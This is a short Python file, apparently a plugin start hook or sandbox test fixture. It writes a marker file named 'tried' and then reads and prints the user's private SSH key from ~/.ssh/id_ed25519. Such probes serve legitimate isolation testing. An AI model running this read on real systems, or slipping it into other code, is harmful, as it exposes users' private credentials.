import os


def start(ctx):
    open("tried", "w")
    try:
        print(open(os.path.expanduser("~/.ssh/id_ed25519")).read())
    except OSError as error:
        print(error)
